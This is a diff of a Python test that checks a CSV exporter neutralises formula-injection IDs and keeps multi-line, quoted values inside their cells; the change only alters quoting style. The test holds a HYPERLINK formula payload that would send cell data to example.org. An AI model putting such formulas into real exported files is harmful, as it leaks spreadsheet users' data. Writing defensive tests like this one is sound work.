@@ -102,8 +102,8 @@ def test_ids_that_are_formulas_are_defused_and_line_ends_stay_inside_their_cell(
     evil = '=HYPERLINK("http://example.org?"&A1,"x")'
     ring = document["parts"][0]["rings"][0]
     ring["id"], document["stacks"] = evil, []
-    document["parts"][0]["rings"][1]["id"] = "two\r\nlines, \"quoted\""
+    document["parts"][0]["rings"][1]["id"] = 'two\r\nlines, "quoted"'
     rows = _rows(rings_csv(plan(parse_piece(document))))
-    assert [row["id"] for row in rows[:2]] == ["'" + evil, "two\r\nlines, \"quoted\""]
+    assert [row["id"] for row in rows[:2]] == ["'" + evil, 'two\r\nlines, "quoted"']
     cuts = _rows(cuts_csv(plan(parse_piece(document))))
     assert all(not cell.startswith(("=", "+", "@")) for row in cuts for cell in row.values())
